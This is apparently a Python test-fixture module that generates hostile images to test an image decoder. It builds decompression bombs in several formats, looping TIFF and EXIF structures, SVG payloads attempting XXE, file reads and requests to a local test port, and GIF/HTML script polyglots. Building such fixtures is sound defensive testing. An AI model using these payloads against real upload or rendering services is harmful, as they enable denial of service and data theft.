"""Pictures made to harm whoever decodes them. Everything is made here, byte by byte, small on disk and quickly."""

import base64
import io
import random
import struct
import zipfile
import zlib

from PIL import Image

SECRET = (255, 0, 0)


def noise(width=96, height=64, mode="RGB", seed=7):
    samples = {"RGB": 3, "RGBA": 4, "L": 1, "CMYK": 4, "LA": 2}[mode]
    return Image.frombytes(mode, (width, height), random.Random(seed).randbytes(width * height * samples))


def encoded(image, kind, **save):
    out = io.BytesIO()
    image.save(out, kind, **save)
    return out.getvalue()


# PNG


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, data, depth=8, color=0, extra=b""):
    head = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(count):
    """A zlib stream of `count` zero bytes, put together from one compressed block: no time, no memory."""
    size = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(size)) + packer.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(count, size)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(bytes(rest)) + last.flush()
    return b"\x78\xda" + block * whole + tail + struct.pack(">I", (count % 65521) << 16 | 1)


def png_pictures():
    yield "65,535 x 65,535 header", png(65535, 65535, zlib.compress(b"\0" * 1000), color=6)
    yield "20,000 x 20,000 of zeros, one bit", png(20_000, 20_000, zeros(20_000 * 2501), depth=1)
    yield "7,000 x 7,000 of zeros, 64 bits", png(7_000, 7_000, zeros(7_000 * 56_001), depth=16, color=6)
    yield "more data than pixels", png(50, 50, zeros(300 << 20))
    yield "compressed text of 300 MB", png(
        50, 50, zeros(50 * 51), extra=chunk(b"zTXt", b"Comment\0\0" + zeros(300 << 20))
    )
    yield "profile of 300 MB", png(50, 50, zeros(50 * 51), extra=chunk(b"iCCP", b"x\0\0" + zeros(300 << 20)))
    yield "50,000 text chunks", png(50, 50, zeros(50 * 51), extra=chunk(b"tEXt", b"a\0b") * 50_000)
    yield "width of a row, height of a tower", png(1, 2**31 - 1, zlib.compress(b"\0" * 5000))


# GIF and WebP


def gif(width, height, frames, frame=(1, 1), delay=0):
    """An endless animation whose every frame is the same small rectangle."""
    packer = b"\x02\x02\x44\x01\x00"  # one pixel
    image = b"\x21\xf9\x04" + struct.pack("<BHB", 0, delay, 0) + b"\0"
    image += b"\x2c" + struct.pack("<HHHHB", 0, 0, *frame, 0) + packer
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0" + image * frames + b"\x3b"


def filled_gif(side, frames):
    """An endless animation: one frame fills the screen, the others change a pixel."""
    first = encoded(Image.new("P", (side, side)), "GIF")[:-1]
    packer = b"\x02\x02\x44\x01\x00"
    screen = first[:6] + struct.pack("<HH", side, side) + first[10:]
    change = b"\x21\xf9\x04\x04\x01\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + packer
    return screen + b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0" + change * frames + b"\x3b"


def webp(width, height, frames):
    """An endless animation of 16 x 16 frames on a canvas of the given size."""
    still = encoded(noise(16, 16), "WEBP", lossless=True)[12:]
    size = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + size
    body += b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    frame = b"\0\0\0" * 2 + b"\x0f\0\0" * 2 + b"\x0a\0\0" + b"\0" + still
    body += (b"ANMF" + struct.pack("<I", len(frame)) + frame) * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def animations():
    yield "gif", "5,000 frames, endless", gif(100, 100, 5_000)
    yield "gif", "500 frames of 3,900 x 3,900", filled_gif(3_900, 500)
    yield "gif", "65,535 x 65,535, one pixel given", gif(65_535, 65_535, 3)
    yield "gif", "frames larger than the screen", gif(10, 10, 200, frame=(60_000, 60_000))
    yield "gif", "no end", gif(50, 50, 20)[:-1] + b"\x21\xfe" + b"\xff" + b"x" * 255
    yield "webp", "3,000 frames", webp(64, 64, 3_000)
    yield "webp", "500 frames of 4,000 x 4,000", webp(4_000, 4_000, 500)
    yield "webp", "canvas of 16,383 x 16,383", webp(16_383, 16_383, 50)
    yield "webp", "canvas of 16,777,216 x 16,777,216", webp(1 << 24, 1 << 24, 2)


# TIFF


def tiff(width, height, strip_bytes, *, rows=None, tags=(), following=0):
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 4, 1, rows or height),
        (279, 4, 1, strip_bytes),
    ]
    entries = sorted({**{entry[0]: entry for entry in entries}, **{entry[0]: entry for entry in tags}}.values())
    table = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8 + 64) + b"\0" * 64 + table + struct.pack("<I", following)


def tiff_pictures():
    yield "one strip of 4 GB", tiff(65_535, 65_535, 0xFFFFFFFF)
    yield "strip longer than the file", tiff(5_000, 5_000, 0xFFFFFFFF)
    yield "directory that follows itself", tiff(8, 8, 64, following=72)
    yield "tiles of 2^30", tiff(100, 100, 64, tags=[(322, 4, 1, 1 << 30), (323, 4, 1, 1 << 30), (324, 4, 1, 8)])
    yield "a tag of 4 billion values", tiff(100, 100, 64, tags=[(700, 1, 0xFFFFFFFF, 8)])
    yield "65,000 samples a pixel", tiff(7_000, 7_000, 64, tags=[(277, 3, 1, 65_000)])
    yield "packed bits, one strip of zeros", tiff(7_000, 7_000, 64, tags=[(259, 3, 1, 32773)])


# JPEG


def segment(marker, data):
    return struct.pack(">HH", 0xFF00 | marker, len(data) + 2) + data


def many_scans(side):
    """A progressive picture with as many scans as the standard allows, each over all blocks and a few bytes long."""
    head = b"\xff\xd8" + segment(0xDB, b"\0" + b"\1" * 64)
    head += segment(0xC2, struct.pack(">BHHB", 8, side, side, 3) + b"".join(bytes((c, 0x11, 0)) for c in (1, 2, 3)))
    head += segment(0xC4, b"\x00" + b"\1" + b"\0" * 15 + b"\x00") + segment(
        0xC4, b"\x10" + b"\1" + b"\0" * 15 + b"\xe0"
    )
    blocks = ((side + 7) // 8) ** 2
    body = head + segment(0xDA, b"\3\1\0\2\0\3\0" + b"\0\0\0") + bytes(blocks * 3 // 8 + 1)
    # Symbol E0, then 14 bits: this and so many following blocks have nothing.
    bits = ("0" + "10" * 7) * (blocks // (16_384 + 0x2AAA) + 1)
    bits += "1" * (-len(bits) % 8)
    run = int(bits, 2).to_bytes(len(bits) // 8).replace(b"\xff", b"\xff\0")
    for component in (1, 2, 3):
        for coefficient in range(1, 64):
            for bit in range(13, -1, -1):
                high = 0 if bit == 13 else bit + 1
                scan = bytes((1, component, 0, coefficient, coefficient, high << 4 | bit))
                body += segment(0xDA, scan) + run
    return body + b"\xff\xd9"


def repeated_scan(side, times):
    slow = bytearray(encoded(Image.new("RGB", (64, 64)), "JPEG", progressive=True))
    frame = slow.index(b"\xff\xc2")
    slow[frame + 5 : frame + 9] = struct.pack(">HH", side, side)
    scan = slow.rindex(b"\xff\xda")
    return bytes(slow[:-2]) + bytes(slow[scan:-2]) * times + b"\xff\xd9"


def jpeg_pictures():
    whole = bytearray(encoded(noise(), "JPEG"))
    frame = whole.index(b"\xff\xc0")
    whole[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    yield "65,500 x 65,500 header", bytes(whole)
    whole[frame + 5 : frame + 9] = struct.pack(">HH", 7_000, 7_000)
    yield "7,000 x 7,000 of which little is there", bytes(whole)
    yield "2,646 scans over 49 million pixels", many_scans(7_000)
    yield "a scan that comes back 6,000 times", repeated_scan(7_000, 6_000)
    marker = b"\xff\xe2" + struct.pack(">H", 65_535) + b"ICC_PROFILE\0\xff\xff" + b"\0" * (65_533 - 14)
    plain = encoded(noise(), "JPEG")
    yield "600 profile markers that do not fit", plain[:2] + marker * 600 + plain[2:]
    yield "20,000 fill bytes and comments", plain[:2] + (b"\xff" * 50 + b"\xff\xfe\0\x02") * 20_000 + plain[2:]
    exif = b"Exif\0\0II*\0\x08\0\0\0\x01\0" + struct.pack("<HHII", 0x112, 3, 0xFFFFFFFF, 8) + b"\x08\0\0\0"
    loop = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    yield "EXIF that follows itself", plain[:2] + loop + plain[2:]


# SVG

XLINK = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body, head="", attributes='width="100" height="100"'):
    return f'<?xml version="1.0"?>{head}<svg {XLINK} {attributes}>{body}</svg>'.encode()


def heavy_drawings():
    box = '<rect width="100%" height="100%" fill="#0a0"/>'
    yield "huge view box", svg(box, attributes='viewBox="0 0 1e30 1e30"')
    yield "huge sides", svg(box, attributes='width="4e9" height="4e9"')
    yield "negative sides", svg(box, attributes='width="-100" height="-100"')
    yield "sides of no number", svg(box, attributes='width="NaN" height="Infinity"')
    laughs = (
        '<g id="u0">'
        + box
        + "</g>"
        + "".join(f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    )
    yield "nested use", svg(f'<defs>{laughs}</defs><use xlink:href="#u11"/>')
    yield "use of itself", svg('<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g>')
    patterns = "".join(
        f'<pattern id="p{n}" width=".001" height=".001"><rect width="99" height="99" fill="url(#p{n - 1})"/></pattern>'
        for n in range(1, 9)
    )
    yield "nested patterns", svg(f'<defs>{patterns}</defs><rect width="100" height="100" fill="url(#p8)"/>')
    blurs = '<feGaussianBlur stdDeviation="9999"/>' * 300
    large = 'width="6000" height="6000"'
    yield "300 blurs", svg(f'<filter id="f">{blurs}</filter><g filter="url(#f)">{box}</g>', attributes=large)
    waves = '<feTurbulence numOctaves="2000000000" baseFrequency="9"/>' * 50
    yield "turbulence", svg(f'<filter id="f">{waves}</filter><g filter="url(#f)">{box}</g>', attributes=large)
    dilate = '<feMorphology operator="dilate" radius="3000"/>' * 20
    yield "morphology", svg(f'<filter id="f">{dilate}</filter><g filter="url(#f)">{box}</g>', attributes=large)
    yield "100,000 groups deep", svg("<g>" * 100_000 + box + "</g>" * 100_000)
    yield "1,000 opacity groups", svg('<g opacity=".9">' * 1_000 + box + "</g>" * 1_000, attributes=large)
    yield "a path of 5 MB", svg('<path stroke="#000" stroke-dasharray=".001" d="M0 0' + "L99 99L0 9" * 500_000 + '"/>')
    yield "500,000 elements", svg('<rect width="9" height="9"/>' * 500_000)
    packed = zlib.compressobj(9, wbits=31)
    bomb = packed.compress(svg(" " * 300_000_000)) + packed.flush()
    yield "compressed, 300 MB unpacked", bomb


def begging_drawings(port, folder):
    """Drawings that ask for something: `port` must never be contacted, the red files in `folder` never be drawn."""
    http, file = f"http://127.0.0.1:{port}", f"file://{folder}"
    red, text = f"{folder}/secret.png", f"{folder}/secret.txt"
    whole = 'x="0" y="0" width="100" height="100"'
    yield "script", svg(f'<script>fetch("{http}/s")</script><script xlink:href="{http}/s.js"/>')
    yield "onload", svg("<rect/>", attributes=f'width="9" height="9" onload="fetch(\'{http}/o\')"')
    for name, address in [
        ("http", f"{http}/i.png"),
        ("scheme-less", f"//127.0.0.1:{port}/i.png"),
        ("file", f"{file}/secret.png"),
        ("absolute", red),
        ("relative", "secret.png"),
        ("parent", "../" * 12 + red[1:]),
        ("file fragment", f"{file}/secret.svg#r"),
        ("escaped", f"&#102;ile://{red}"),
        ("upper case", f"FILE://{red}"),
        ("spaced", f" {file}/secret.png"),
    ]:
        yield f"image {name}", svg(f'<image {whole} xlink:href="{address}"/><image {whole} href="{address}"/>')
        yield f"use {name}", svg(f'<use {whole} xlink:href="{address}#r"/><use href="{address}#r"/>')
        yield f"fill {name}", svg(f'<rect {whole} fill="url({address}#r)" filter="url({address}#r)"/>')
        yield f"style {name}", svg(
            f'<style>@import "{address}"; @import url({address}); rect '
            f'{{ fill: url("{address}#r"); mask: url({address}#r) }}</style><rect {whole} fill="none"/>'
        )
    yield "style sheet", svg("", head=f'<?xml-stylesheet type="text/css" href="{http}/x.css"?>')
    yield "include", svg(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" ' f'href="{file}/secret.txt"/>'
    )
    drawn = '<text x="0" y="90" font-size="90" fill="#f00">{}</text>'
    yield "entity of a file", svg(drawn.format("&x;"), head=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{text}">]>')
    yield "entity of a URL", svg(drawn.format("&x;"), head=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{http}/x">]>')
    yield "parameter entity", svg("", head=f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{http}/x.dtd"> %x;]>')
    yield "outside definition", svg("", head=f'<!DOCTYPE svg SYSTEM "{http}/x.dtd">')
    nested = svg(f'<image {whole} xlink:href="{http}/n.png"/><image {whole} xlink:href="{file}/secret.png"/>')
    inner = base64.b64encode(nested).decode()
    yield "drawing in a drawing", svg(f'<image {whole} xlink:href="data:image/svg+xml;base64,{inner}"/>')
    yield "foreign object", svg(
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{http}/f"/></foreignObject>'
    )


def drawing_with_a_bomb(side=20_000):
    """400 million pixels, and no file that says so in its head: they are in a picture inside the drawing."""
    bomb = base64.b64encode(png(side, side, zeros(side * (side // 8 + 1)), depth=1)).decode()
    return svg(f'<image width="100" height="100" xlink:href="data:image/png;base64,{bomb}"/>')


# Two files in one, and formats that are unusual but right


def polyglots():
    script = b"<script>alert('polyglot')</script>"
    gifjs = (
        b"GIF89a"
        + encoded(noise(), "GIF")[6:-1]
        + b"\x21\xfe"
        + b"\x30"
        + b"*/=1;alert('polyglot');/*".ljust(0x30)
        + b"\0;"
    )
    yield "gif and script", gifjs
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("polyglot.txt", "polyglot")
    yield "jpeg and zip", encoded(noise(), "JPEG") + archive.getvalue()
    yield "png and html", encoded(noise(), "PNG") + b"<!doctype html>" + script
    comment = chunk(b"tEXt", b"Comment\0" + script)
    yield "png with html in a comment", png(60, 60, zeros(60 * 61), extra=comment)
    yield "jpeg with html in a comment", encoded(noise(), "JPEG", comment=script)


def unusual():
    yield "CMYK", encoded(noise(mode="CMYK"), "JPEG")
    yield "grey", encoded(noise(mode="L"), "JPEG")
    yield "grey with alpha", encoded(noise(mode="LA"), "PNG")
    yield "16-bit grey", encoded(Image.frombytes("I;16", (64, 64), random.Random(1).randbytes(8192)), "PNG")
    yield "16-bit colour", png(64, 64, zeros(64 * (64 * 6 + 1)), depth=16, color=2)
    yield "one bit", encoded(Image.new("1", (65, 33)), "PNG")
    yield "palette with transparency", encoded(noise().convert("P"), "PNG", transparency=3)
    yield "CMYK tiff", encoded(noise(mode="CMYK"), "TIFF", compression="tiff_lzw")
    yield "float tiff", encoded(noise(mode="L").convert("F"), "TIFF")
    yield "Lab tiff", encoded(noise().convert("L").convert("RGB").convert("YCbCr"), "TIFF", compression="jpeg")
    yield "one pixel", encoded(Image.new("RGB", (1, 1)), "PNG")
    yield "one row", encoded(Image.new("RGB", (9_000, 1)), "PNG")
    yield "interlaced", encoded(Image.new("RGB", (1, 9_000)), "PNG")
    yield "progressive", encoded(noise(), "JPEG", progressive=True)
